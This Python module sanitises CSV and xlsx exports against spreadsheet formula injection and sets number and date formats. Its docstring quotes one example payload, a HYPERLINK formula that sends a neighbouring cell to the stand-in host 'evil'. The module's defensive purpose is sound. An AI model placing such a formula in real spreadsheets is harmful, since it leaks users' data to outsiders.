"""Cells for sheets people open in Excel or LibreOffice, with no formula injection.

A citizen who calls herself ``=HYPERLINK("http://evil/?"&B2;"Bấm")`` must appear in the register
as that text, not as a live link that sends the next column to a stranger (OWASP "CSV
injection"). Every CSV and xlsx writer in the project goes through this module:

* ``safe_csv(value)`` / ``SafeCsvWriter``: text starting with ``= + - @``, a tab or a carriage
  return gets a leading single quote, which spreadsheets show as text and do not evaluate.
* ``safe_cell(value)`` / ``append_row(sheet, values)``: in xlsx the text is kept as it is and
  stored as a string cell (openpyxl would otherwise store a str starting with ``=`` as a
  formula), with Excel's "quote prefix" so that editing the cell keeps it text.

Numbers stay numbers: ints, floats and Decimals are never touched, nor is text that is a plain
number (``-12.5``, ``+84912345678``), which a spreadsheet reads as that number and nothing else.

Numbers are also *written as numbers* (ADR 17, docs/conventions.md "Numbers, dates, money"):

* xlsx: a cell holds the int, float, Decimal or date itself, shown through a number format
  (``PERCENT`` "0.0%" for a ratio stored as 0.65, ``COUNT`` "#,##0", ``DATE`` dd/mm/yyyy), so a
  column sorts and sums; never "65,0%" as text. Excel shows the separators of the reader's own
  settings. ``append_row(sheet, values, formats)`` takes one format per column.
* CSV is a machine format, the same for every sheet the platform writes: UTF-8 with a BOM,
  comma-separated, a dot for decimals and no thousands separator (``10240``, ``5.8``), ratios as
  decimals (``0.65``, like the xlsx cell and the API), dates ``YYYY-MM-DD``, date-times ISO
  8601 in Vietnam's time (``2026-12-02T14:05:00+07:00``), nothing for a missing value.
  ``csv_value`` writes one cell so; ``SafeCsvWriter`` applies it to every cell.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Protocol
from zoneinfo import ZoneInfo

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

VN = ZoneInfo("Asia/Ho_Chi_Minh")
PERCENT = "0.0%"  # a ratio: 0.65 shows as 65.0% (65,0% in a Vietnamese Excel)
COUNT = "#,##0"
DECIMAL = "#,##0.0"
DECIMAL2 = "#,##0.00"
MONEY = "#,##0"  # đồng have no decimals
DATE = "dd/mm/yyyy"
DATETIME = "dd/mm/yyyy hh:mm"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?")


def is_formula_like(value: object) -> bool:
    """Whether a spreadsheet could read this value as a formula (or the start of one)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(value)
    )


def safe_csv(value: Any) -> Any:
    """The value for a CSV cell: formula-like text gets a leading single quote."""
    return "'" + value if is_formula_like(value) else value


def _plain_decimal(number: Decimal) -> str:
    text = f"{number:f}"
    if "." in text:
        text = text.rstrip("0").rstrip(".")
    return "0" if text in ("-0", "") else text


def csv_value(value: Any) -> Any:
    """One cell in the platform's CSV machine format (see the module's docstring): ``0.65``,
    ``10240``, ``2026-12-02``, ``2026-12-02T14:05:00+07:00``, ``""`` for None."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return _plain_decimal(Decimal(repr(value))) if value == value else ""
    if isinstance(value, Decimal):
        return _plain_decimal(value) if value.is_finite() else ""
    if isinstance(value, dt.datetime):
        moment = value.astimezone(VN) if value.tzinfo else value
        return moment.replace(microsecond=0).isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    return value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> object: ...


class SafeCsvWriter:
    """Wraps a ``csv.writer``: every cell in the machine format (``csv_value``) and formula-like
    text quoted (``safe_csv``)."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any], /) -> object:
        return self._writer.writerow([safe_csv(csv_value(v)) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]], /) -> None:
        for row in rows:
            self.writerow(row)


def safe_cell(cell: Any) -> Any:
    """Make an openpyxl cell holding formula-like text a plain string cell; returns the cell."""
    if is_formula_like(cell.value) or cell.data_type == "f":
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def _cell_value(value: Any) -> Any:
    if isinstance(value, dt.datetime) and value.tzinfo:
        return value.astimezone(VN).replace(tzinfo=None)  # Excel has no time zones
    return value


def append_row(
    sheet: Worksheet, values: Iterable[Any], formats: Sequence[str | None] = ()
) -> None:
    """``sheet.append(values)``, with no cell of the new row a formula, and the number format
    ``formats[i]`` (``PERCENT``, ``COUNT``, ...) on the i-th cell; dates and date-times get
    ``DATE`` and ``DATETIME`` unless told otherwise, aware date-times are written in Vietnam's
    time.

    It builds the row's cells itself: reading the new row back (``sheet[sheet.max_row]``, as it
    did) walks every cell of the sheet for each row, and a 20,000-row sheet took minutes.
    """
    from openpyxl.cell.cell import Cell

    row: list[Any] = []
    for index, raw in enumerate(values):
        value = _cell_value(raw)
        number_format = formats[index] if index < len(formats) else None
        if number_format is None and isinstance(value, dt.date):
            number_format = DATETIME if isinstance(value, dt.datetime) else DATE
        formula_like = is_formula_like(value)  # openpyxl would store "=..." as a formula
        if not (number_format or formula_like):
            row.append(value)
            continue
        cell = Cell(sheet, value=value)
        if number_format and not isinstance(value, str):
            cell.number_format = number_format
        safe_cell(cell)
        row.append(cell)
    sheet.append(row)


__all__ = [
    "COUNT",
    "DATE",
    "DATETIME",
    "DECIMAL",
    "DECIMAL2",
    "MONEY",
    "PERCENT",
    "SafeCsvWriter",
    "append_row",
    "csv_value",
    "is_formula_like",
    "safe_cell",
    "safe_csv",
]
